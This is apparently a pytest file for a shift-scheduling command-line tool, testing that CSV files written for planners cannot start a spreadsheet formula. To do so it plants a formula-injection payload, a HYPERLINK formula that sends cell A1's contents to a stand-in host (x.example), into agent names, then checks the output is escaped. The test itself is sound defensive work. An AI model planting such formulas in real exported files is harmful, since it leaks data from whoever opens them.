"""`ccops schedule` writes files planners open in a spreadsheet: no cell starts a formula."""

import csv

from ccops.cli import main
from tests.engine.test_cli_schedule import files  # noqa: F401  (the fixture)


def test_agent_names_and_templates_cannot_become_formulas(files):  # noqa: F811
    agents = files / "agents.csv"
    rows = list(csv.reader(agents.open(newline="")))
    for row in rows[1:]:
        row[1] = '=HYPERLINK("http://x.example/?"&A1,"' + row[1] + '")'
    with agents.open("w", newline="") as fh:
        csv.writer(fh).writerows(rows)
    shifts_yaml = files / "shifts.yaml"
    shifts_yaml.write_text(shifts_yaml.read_text().replace("name: early", "name: '@early'"))
    out = files / "out"
    args = ["schedule", "--need", str(files / "need.csv"), "--shifts", str(shifts_yaml)]
    assert main([*args, "--agents", str(agents), "--out", str(out), "--time-limit", "5"]) == 0
    with (out / "shifts.csv").open(newline="") as fh:
        shifts = list(csv.DictReader(fh))
    named = [s for s in shifts if s["agent_name"]]
    assert named and all(s["agent_name"].startswith("'=HYPERLINK(") for s in named)
    assert any(s["template"] == "'@early" for s in shifts)
    assert all(not v.startswith(("=", "+", "-", "@")) for s in shifts for v in s.values())
